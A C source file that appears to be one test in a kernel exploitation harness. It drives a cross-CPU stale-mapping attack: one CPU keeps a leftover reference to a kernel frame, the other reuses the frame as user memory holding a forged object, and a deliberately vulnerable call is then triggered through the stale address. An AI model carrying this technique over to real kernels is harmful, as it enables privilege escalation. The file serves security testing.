/*
 * One processor remembers where a frame of the kernel's was; another makes that frame user memory
 * and puts a forged object there; the first one's memory still leads to it.
 */
#include <sched.h>

#include "attack.h"

enum { CPU_OF_ALLOCATOR, CPU_OF_VICTIM, NR_CPUS };
enum { STAGE_WARM = 1, STAGE_WARMED, STAGE_FORGED, STAGE_CALLED };

static attack_stage stage, company_is_there;
static struct attack_frame frame;

/* Shares the victim's processor, so that this switches threads between the two steps. */
static void company(void *unused)
{
	(void)unused;
	attack_tell(&company_is_there, true);
	attack_await(&stage, STAGE_WARMED, AWAIT_YIELD);
	attack_await(&stage, STAGE_FORGED, AWAIT_SPIN);
	attack_await(&stage, STAGE_CALLED, AWAIT_YIELD);
}

static void victim(void *unused)
{
	(void)unused;
	attack_await(&stage, STAGE_WARM, AWAIT_YIELD);
	attack_warm(frame.synonym);
	attack_tell(&stage, STAGE_WARMED);
	attack_await(&stage, STAGE_FORGED, AWAIT_SPIN);
	/* to the other thread and back */
	sched_yield();
	attack_check("vuln_call", bw_vuln_call(frame.synonym));
	attack_tell(&stage, STAGE_CALLED);
}

int main(void)
{
	struct bw_leak leak;

	attack_begin(&leak, NR_CPUS, CPU_OF_ALLOCATOR);
	attack_thread(CPU_OF_VICTIM, victim, NULL);
	attack_thread(CPU_OF_VICTIM, company, NULL);
	attack_await(&company_is_there, true, AWAIT_YIELD);

	attack_frame_find(&leak, &frame);
	attack_tell(&stage, STAGE_WARM);
	attack_await(&stage, STAGE_WARMED, AWAIT_YIELD);
	attack_say("CPU %d has read it at 0x%lx", CPU_OF_VICTIM, frame.synonym);

	if (!attack_frame_forge(&leak, &frame)) {
		attack_skip("the next page came from elsewhere");
	}
	attack_tell(&stage, STAGE_FORGED);
	attack_await(&stage, STAGE_CALLED, AWAIT_YIELD);
	return attack_finish();
}
